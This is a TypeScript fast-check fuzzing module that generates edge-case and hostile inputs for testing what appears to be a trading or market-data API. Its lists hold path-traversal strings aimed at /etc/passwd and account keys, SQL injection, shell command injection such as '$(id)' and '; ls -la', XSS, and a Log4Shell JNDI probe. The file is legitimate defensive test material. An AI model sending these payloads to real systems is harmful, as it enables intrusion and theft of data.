import fc from "fast-check";

/** Hostile values for the fuzz test: edge numbers, text that breaks naive parsing, attacks. */

/** Numbers at the edges of what calculators and date ranges handle. */
export const edgeNumber = fc.constantFrom(
  0,
  -0,
  -1,
  0.5,
  1e-300,
  1e-9,
  1e300,
  36_500,
  1_000_000,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER,
  -1e308,
  1e21,
);

/** Numbers written as text that `Number()` reads as NaN or ±Infinity, or as huge or tiny. */
export const numericText = fc.constantFrom(
  "NaN",
  "Infinity",
  "-Infinity",
  "+Infinity",
  "1e309",
  "-1e309",
  "1e-400",
  "9007199254740993",
  "-9007199254740993",
  "0x1F",
  "1_000",
  "١٢٣",
);

/** Path parameters that try to leave their segment or reach a store or a shell. */
export const pathAttack = fc.constantFrom(
  "../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2f",
  "..\\..\\windows\\win.ini",
  "AAPL_NASDAQ/../../account/keys",
  "AAPL_NASDAQ%00",
  "AAPL_NASDAQ\u0000.json",
  "/",
  "//",
  ".",
  "..",
  "' OR '1'='1' --",
  '{"S":"x"}',
  "USER#1",
  "ACCOUNT#1|KEY#1",
  "$(id)",
  "`id`",
  "; ls -la",
  "%s%s%s%n",
  "<img src=x onerror=alert(1)>",
);

/** Values that break naive parsing, next to plausible ones. */
export const hostileText = fc.oneof(
  edgeNumber.map(String),
  numericText,
  pathAttack,
  fc.constantFrom(
    "",
    " ",
    "0",
    "-1",
    "1.5",
    "true",
    "null",
    "[]",
    "{}",
    "%00",
    "\u0000",
    '"; DROP TABLE accounts; --',
    "<script>alert(1)</script>",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent literally
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "__proto__",
    "constructor",
    "\uD800",
    "😀".repeat(200),
    "مرحبا بالعالم",
    "Ａ\u200bＡＰＬ",
    "line\r\nbreak",
    "AAPL_NASDAQ",
    "SPY_ARCA",
    "ES_CME",
    "BTC_CRYPTO",
    "SPX_INDEX",
    "2026-02-30",
    "2026-11-23",
    "C",
    "P",
    "a".repeat(5000),
  ),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.integer({ min: -1_000_000, max: 1_000_000 }).map(String),
  fc.double({ noNaN: false }).map(String),
);

/** Any JSON, hostile text, edge numbers. */
export const hostileJson = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  hostileText,
  edgeNumber,
  fc.constantFrom(1e308, -1e308, 1e-320),
);

/** Codes of every kind of instrument, for fields that take one. */
const instrumentCode = fc.constantFrom(
  "AAPL_NASDAQ",
  "SPY_ARCA",
  "ES_CME",
  "BTC_CRYPTO",
  "SPX_INDEX",
  "VIX_INDEX",
);

const isNumeric = (value: unknown) =>
  typeof value === "number" ||
  (typeof value === "string" && value.trim() !== "" && Number.isFinite(Number(value)));

/**
 * A replacement for a valid field: mostly of the same type at its edges (so the request still
 * reaches the implementation), sometimes anything at all (a wrong type).
 */
export function replacementFor(original: unknown): fc.Arbitrary<unknown> {
  const sameType: fc.Arbitrary<unknown> = isNumeric(original)
    ? fc.oneof(
        edgeNumber,
        numericText,
        fc.double({ noNaN: true, min: -1e6, max: 1e6 }),
        fc.integer({ min: -400, max: 400 }),
      )
    : typeof original === "boolean"
      ? fc.boolean()
      : typeof original === "string"
        ? fc.oneof(instrumentCode, hostileText)
        : hostileJson;
  const typed = typeof original === "string" ? sameType.map((value) => String(value)) : sameType;
  return fc.oneof({ arbitrary: typed, weight: 3 }, { arbitrary: hostileJson, weight: 1 });
}

/** A valid JSON body made unreadable: cut short, or with a stray character or quote style. */
export function malformedJson(validText: string): fc.Arbitrary<string> {
  return fc.oneof(
    fc.nat({ max: Math.max(validText.length - 1, 0) }).map((cut) => validText.slice(0, cut)),
    fc.constantFrom(
      `${validText}}`,
      `${validText},`,
      `[${validText}`,
      validText.replaceAll('"', "'"),
      `\uFEFF${validText}`,
      `${validText}\u0000`,
      "{",
      "not json",
      "[1,2",
      "NaN",
    ),
  );
}
